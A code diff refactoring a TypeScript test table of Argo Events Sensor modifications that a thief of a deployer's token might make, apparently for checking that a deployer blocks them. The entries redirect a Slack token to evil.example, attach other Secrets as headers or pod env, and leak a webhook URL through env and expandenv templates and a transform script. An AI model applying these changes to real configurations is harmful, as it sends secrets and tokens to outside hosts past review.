@@ -13,80 +13,55 @@ export interface Spec {
 
 interface Http {
   readonly url: string;
-  readonly payload: readonly object[];
   readonly parameters?: readonly object[];
-  readonly secureHeaders?: readonly object[];
 }
 
-/** A Sensor with one changed request of this receiver. */
-const changed = (url: RegExp, change: (http: Http) => object) => (spec: Spec) => ({
+/** A Sensor with the requests of one receiver, of which these fields are changed. */
+const changed = (url: RegExp, change: object | ((http: Http) => object)) => (spec: Spec) => ({
   ...spec,
   triggers: spec.triggers
     .filter(({ template }) => url.test(template.http.url))
-    .map((trigger) => ({
-      ...trigger,
-      template: { ...trigger.template, http: change(trigger.template.http) },
-    })),
+    .map((trigger) => {
+      const { http } = trigger.template;
+      const more = typeof change === "function" ? change(http) : change;
+      return { ...trigger, template: { ...trigger.template, http: { ...http, ...more } } };
+    }),
 });
-export const slack = (change: (http: Http) => object) => changed(/slack\.com/, change);
-export const hidden = (change: (http: Http) => object) => changed(/hidden/, change);
+export const slack = (change: object) => changed(/slack\.com/, change);
+export const hidden = (change: object | ((http: Http) => object)) => changed(/hidden/, change);
 const src = { dependencyName: "route_edge_0" };
+const message = (by: object) => slack({ payload: [{ src: { ...src, ...by }, dest: "text" }] });
+const address = (by: object) => ({ parameters: [{ src: { ...src, ...by }, dest: "url" }] });
+/** A Sensor of which all triggers have these fields too. */
+const triggers = (more: object) => (spec: Spec) => ({
+  ...spec,
+  triggers: spec.triggers.map((trigger) => ({ ...trigger, ...more })),
+});
+const SECRET = { valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } };
 
 /** Changes that a thief of the deployer's token might make. Each name completes "let the deployer not …". */
 export const CHANGES: Readonly<Record<string, (spec: Spec) => object>> = {
-  "send the Slack token elsewhere": slack((http) => ({ ...http, url: "https://evil.example" })),
-  "send the Slack token to another receiver": slack((http) => ({
-    ...http,
-    url: "https://pager.acme.example",
-  })),
-  "send another Secret to a receiver": slack((http) => ({
-    ...http,
-    secureHeaders: [
-      { name: "Authorization", valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } },
-    ],
-  })),
-  "change an address by a parameter": slack((http) => ({
-    ...http,
-    parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "url" }],
-  })),
-  "take a hidden address from an Event": hidden((http) => ({
-    ...http,
-    parameters: [{ src: { ...src, dataTemplate: "{{ .Input.body.message }}" }, dest: "url" }],
-  })),
-  "write a hidden address into a message": slack((http) => ({
-    ...http,
-    payload: [{ src: { ...src, dataTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
-  })),
-  "write it by another function": slack((http) => ({
-    ...http,
-    payload: [{ src: { ...src, dataTemplate: "{{$x := (expandenv `$URL_WEBHOOK_EDGE`)}}" }, dest: "text" }],
-  })),
-  "write it after an assignment": slack((http) => ({
-    ...http,
-    payload: [{ src: { ...src, dataTemplate: '{{$x:=env "URL_WEBHOOK_EDGE"}}{{$x}}' }, dest: "text" }],
-  })),
-  "write it by a template over the Event's context": slack((http) => ({
-    ...http,
-    payload: [{ src: { ...src, contextTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
-  })),
-  "use an address of its own where an Event is missing": hidden((http) => ({
-    ...http,
-    parameters: http.parameters?.map((one) => {
+  "send the Slack token elsewhere": slack({ url: "https://evil.example" }),
+  "send the Slack token to another receiver": slack({ url: "https://pager.acme.example" }),
+  "send another Secret to a receiver": slack({ secureHeaders: [{ name: "Authorization", ...SECRET }] }),
+  "change an address by a parameter": slack(address({ value: "https://evil.example" })),
+  "take a hidden address from an Event": hidden(address({ dataTemplate: "{{ .Input.body.message }}" })),
+  "write a hidden address into a message": message({ dataTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }),
+  "write it by another function": message({ dataTemplate: "{{$x := (expandenv `$URL_WEBHOOK_EDGE`)}}" }),
+  "write it after an assignment": message({ dataTemplate: '{{$x:=env "URL_WEBHOOK_EDGE"}}{{$x}}' }),
+  "write it by a template over the Event's context": message({
+    contextTemplate: '{{ env "URL_WEBHOOK_EDGE" }}',
+  }),
+  "use an address of its own where an Event is missing": hidden(({ parameters }: Http) => ({
+    parameters: parameters?.map((one) => {
       const { src: own, dest } = one as { src: object; dest: string };
       return { src: { ...own, dependencyName: "other", value: "https://evil.example" }, dest };
     }),
   })),
-  "change a request when an Event comes": (spec: Spec) => ({
-    ...spec,
-    triggers: spec.triggers.map((trigger) => ({
-      ...trigger,
-      parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "http.url" }],
-    })),
+  "change a request when an Event comes": triggers({
+    parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "http.url" }],
   }),
-  "trigger something else after a failure": (spec: Spec) => ({
-    ...spec,
-    triggers: spec.triggers.map((trigger) => ({ ...trigger, dlqTrigger: { template: { name: "x" } } })),
-  }),
+  "trigger something else after a failure": triggers({ dlqTrigger: { template: { name: "x" } } }),
   ...Object.fromEntries(
     [
       { transform: { script: "event.body = os.getenv('URL_WEBHOOK_EDGE') return event" } },
@@ -104,22 +79,13 @@ export const CHANGES: Readonly<Record<string, (spec: Spec) => object>> = {
       }),
     ]),
   ),
-  "give the pod another Secret": (spec: Spec) => ({
+  "give the pod another Secret": ({ template, ...spec }: Spec) => ({
     ...spec,
-    template: {
-      ...spec.template,
-      container: {
-        ...spec.template.container,
-        env: [{ name: "X", valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } }],
-      },
-    },
+    template: { ...template, container: { ...template.container, env: [{ name: "X", ...SECRET }] } },
   }),
-  "give the pod another ServiceAccount": (spec: Spec) => ({
+  "give the pod another ServiceAccount": ({ template, ...spec }: Spec) => ({
     ...spec,
-    template: { ...spec.template, serviceAccountName: "kargo-fleet-sensor" },
+    template: { ...template, serviceAccountName: "kargo-fleet-sensor" },
   }),
-  "trigger something else": (spec: Spec) => ({
-    ...spec,
-    triggers: [{ template: { name: "x", log: {} } }],
-  }),
+  "trigger something else": (spec: Spec) => ({ ...spec, triggers: [{ template: { name: "x", log: {} } }] }),
 };
